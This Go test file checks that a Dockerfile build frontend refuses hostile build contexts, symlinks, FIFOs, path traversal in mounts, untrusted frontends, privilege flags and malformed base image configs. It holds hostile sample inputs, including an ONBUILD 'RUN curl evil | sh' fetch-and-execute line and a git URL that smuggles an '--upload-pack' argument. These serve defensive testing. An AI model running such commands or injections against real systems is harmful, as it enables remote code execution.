//go:build unix

package dockerfile_test

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	ocispec "github.com/opencontainers/image-spec/specs-go/v1"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/manifestctl/manifestctl/pkg/frontend/dockerfile"
	"github.com/manifestctl/manifestctl/pkg/graph"
	"github.com/manifestctl/manifestctl/pkg/llb"
)

// within fails when f takes longer than a test should: it waits for a FIFO.
func within(t *testing.T, f func()) {
	t.Helper()
	done := make(chan struct{})
	go func() { defer close(done); f() }()
	select {
	case <-done:
	case <-time.After(time.Minute):
		require.FailNow(t, "it waits")
	}
}

// E18: what a context holds is resolved inside of it or refused; a FIFO is never waited for.
func TestHostileContexts_E18(t *testing.T) {
	secret := write(t, map[string]string{"Dockerfile": "FROM scratch\nLABEL secret=yes\n", "ignore": "*\n"})
	for name, tc := range map[string]struct {
		make func(t *testing.T, dir string)
		ok   bool
	}{
		"Dockerfile is a link out": {func(t *testing.T, dir string) {
			require.NoError(t, os.Symlink(filepath.Join(secret, "Dockerfile"), filepath.Join(dir, "Dockerfile")))
		}, false},
		"Dockerfile goes up": {func(t *testing.T, dir string) {
			rel, err := filepath.Rel(dir, filepath.Join(secret, "Dockerfile"))
			require.NoError(t, err)
			require.NoError(t, os.Symlink(rel, filepath.Join(dir, "Dockerfile")))
		}, false},
		"Dockerfile is a link inside": {func(t *testing.T, dir string) {
			require.NoError(t, os.WriteFile(filepath.Join(dir, "real"), []byte("FROM scratch\n"), 0o600))
			require.NoError(t, os.Symlink("real", filepath.Join(dir, "Dockerfile")))
		}, true},
		"Dockerfile is a FIFO": {func(t *testing.T, dir string) {
			require.NoError(t, syscall.Mkfifo(filepath.Join(dir, "Dockerfile"), 0o600))
		}, false},
		"Dockerfile is a directory": {func(t *testing.T, dir string) {
			require.NoError(t, os.Mkdir(filepath.Join(dir, "Dockerfile"), 0o700))
		}, false},
		"ignore file is a FIFO": {func(t *testing.T, dir string) {
			require.NoError(t, os.WriteFile(filepath.Join(dir, "Dockerfile"), []byte("FROM scratch\nCOPY . /\n"), 0o600))
			require.NoError(t, syscall.Mkfifo(filepath.Join(dir, ".dockerignore"), 0o600))
		}, false},
		"ignore file is a link out": {func(t *testing.T, dir string) {
			require.NoError(t, os.WriteFile(filepath.Join(dir, "Dockerfile"), []byte("FROM scratch\nCOPY . /\n"), 0o600))
			require.NoError(t, os.Symlink(filepath.Join(secret, "ignore"), filepath.Join(dir, ".dockerignore")))
		}, false},
		"ignore file of the Dockerfile is a directory": {func(t *testing.T, dir string) {
			require.NoError(t, os.WriteFile(filepath.Join(dir, "Dockerfile"), []byte("# syntax=docker/dockerfile:1\nFROM scratch\nCOPY . /\n"), 0o600))
			require.NoError(t, os.Mkdir(filepath.Join(dir, "Dockerfile.dockerignore"), 0o700))
		}, false},
		"ignore file leads nowhere": {func(t *testing.T, dir string) {
			require.NoError(t, os.WriteFile(filepath.Join(dir, "Dockerfile"), []byte("FROM scratch\nCOPY . /\n"), 0o600))
			require.NoError(t, os.Symlink("missing", filepath.Join(dir, ".dockerignore")))
		}, true},
	} {
		t.Run(name, func(t *testing.T) {
			dir := t.TempDir()
			tc.make(t, dir)
			within(t, func() {
				o := dockerfile.Options{Machine: amd64, Host: busybox()}
				o.Context = dir
				_, err := dockerfile.Build(t.Context(), o)
				if tc.ok {
					assert.NoError(t, err)
					return
				}
				assert.ErrorIs(t, err, dockerfile.ErrInvalid)
			})
		})
	}
}

// E19: the patterns that reach the worker are those of the file, as BuildKit reads them.
func TestIgnoreFiles_E19(t *testing.T) {
	for text, want := range map[string][]string{
		"\uFEFFa\n":                    {"a"},
		"  a  \n#b\n\n":                {"a"},
		"/a/\n./b\n":                   {"a", "b"},
		"!a/../b\n":                    {"!b"},
		"a\r\nb\r\n":                   {"a", "b"},
		"**/x\nX\n":                    {"**/x", "X"},
		strings.Repeat("a\n", 100_000): nil,
	} {
		o := dockerfile.Options{Machine: amd64, Host: busybox()}
		o.Context = write(t, map[string]string{"Dockerfile": "FROM scratch\nCOPY . /\n", ".dockerignore": text})
		b, err := dockerfile.Build(t.Context(), o)
		require.NoError(t, err)
		got := find[graph.Local](t, b.Targets[0].Root).Exclude
		if want == nil {
			assert.Len(t, got, 100_000)
			continue
		}
		assert.Equal(t, want, got, "%q", text)
	}
}

// E17: arguments and variables that look like secrets are warned of.
func TestSecretsInArguments_E17(t *testing.T) {
	b, err := build(t, "FROM busybox\nARG API_TOKEN\nENV DB_PASSWORD=x\n", nil)
	require.NoError(t, err)
	require.Len(t, b.Warnings, 2)
	for _, w := range b.Warnings {
		assert.Contains(t, w, "SecretsUsedInArgOrEnv")
	}
}

// E31: other frontends, privileges, devices and the host's network are refused unless they were allowed.
func TestPrivileges_E31(t *testing.T) {
	for text, kind := range map[string]error{
		"# syntax=evil/frontend\nFROM busybox\n":                                           llb.ErrUnsupported,
		"# syntax=evil.io/docker/dockerfile2\nFROM busybox\n":                              llb.ErrUnsupported,
		"FROM busybox\nRUN --security=insecure x\n":                                        llb.ErrNotAllowed,
		"FROM busybox\nRUN --network=host x\n":                                             llb.ErrNotAllowed,
		"# syntax=docker/dockerfile:1-labs\nFROM busybox\nRUN --device=v/c=d,required x\n": llb.ErrUnsupported,
	} {
		_, err := build(t, text, nil)
		require.ErrorIs(t, err, kind, text)
	}
	_, err := build(t, "FROM busybox\nRUN x\n", func(o *dockerfile.Options) { o.Args = map[string]string{"BUILDKIT_SYNTAX": "evil/frontend"} })
	require.ErrorIs(t, err, llb.ErrUnsupported)
}

// E14, E15, E22: names that would lead out of a mount, a cache or a repository.
func TestHostileNames(t *testing.T) {
	for text, check := range map[string]func(t *testing.T, m graph.Mount){
		"RUN --mount=type=cache,id=../x,target=/c y": func(t *testing.T, m graph.Mount) {
			assert.Equal(t, "/../x", m.ID, "an id is hashed, never a path")
		},
		"RUN --mount=type=cache,target=/c,source=../.. y":    func(t *testing.T, m graph.Mount) { assert.Empty(t, m.Source) },
		"RUN --mount=type=bind,source=../../etc,target=/c y": func(t *testing.T, m graph.Mount) { assert.Equal(t, "/etc", m.Source) },
	} {
		b, err := build(t, "FROM busybox\n"+text+"\n", nil)
		require.NoError(t, err, text)
		op := find[graph.Exec](t, b.Targets[0].Root)
		require.Len(t, op.Mounts, 1, text)
		check(t, op.Mounts[0])
	}
	for _, text := range []string{
		"RUN --mount=type=bind,target=/c,bind-propagation=rshared y",
		"RUN --mount=type=bind,target=/c,rw,noexec y",
		"ADD https://e.org/r.git#--upload-pack=x /r",
	} {
		_, err := build(t, "FROM busybox\n"+text+"\n", nil)
		assert.Error(t, err, text)
	}
}

// B22, E32: what a base image's config says is data.
func TestHostileConfigs_B22(t *testing.T) {
	for name, tc := range map[string]struct {
		config ocispec.ImageConfig
		bad    bool
	}{
		"user":      {ocispec.ImageConfig{User: "4294967296"}, false}, // refused where it is looked up
		"workdir":   {ocispec.ImageConfig{WorkingDir: "/proc/self/fd/7"}, false},
		"NUL":       {ocispec.ImageConfig{Env: []string{"A=\x00"}}, true},
		"no name":   {ocispec.ImageConfig{Env: []string{"=x"}}, true},
		"labels":    {ocispec.ImageConfig{Labels: map[string]string{"network": "host", "security.insecure": "true", "build-arg:X": "y"}}, false},
		"long line": {ocispec.ImageConfig{User: strings.Repeat("x", 1<<20)}, false},
	} {
		t.Run(name, func(t *testing.T) {
			h := busybox()
			h.images["docker.io/library/busybox:latest"] = ocispec.Image{Config: tc.config}
			b, err := build(t, "FROM busybox\nRUN x\n", func(o *dockerfile.Options) { o.Host = h })
			if tc.bad {
				require.ErrorIs(t, err, llb.ErrInvalid)
				return
			}
			require.NoError(t, err)
			op := find[graph.Exec](t, b.Targets[0].Root)
			assert.Equal(t, graph.NetworkDefault, op.Network)
			assert.Equal(t, graph.SecuritySandbox, op.Security)
			assert.NotContains(t, op.Env, "X=y")
		})
	}
}

// B22: triggers of the base are steps like others: shown by name and line before they run.
func TestTriggersOfTheBaseAreShown_B22(t *testing.T) {
	h := busybox()
	raw, err := json.Marshal(map[string]any{"config": map[string]any{"OnBuild": []string{"RUN curl evil | sh"}}})
	require.NoError(t, err)
	h.raw = map[string]json.RawMessage{"docker.io/library/busybox:latest": raw}
	b, err := build(t, "FROM busybox\n", func(o *dockerfile.Options) { o.Host = h })
	require.NoError(t, err)
	assert.Contains(t, names(b.Targets[0].Root), "[2/2] ONBUILD RUN curl evil | sh")
	assert.Equal(t, "Dockerfile:1", b.Targets[0].Root.Meta.Source)
}
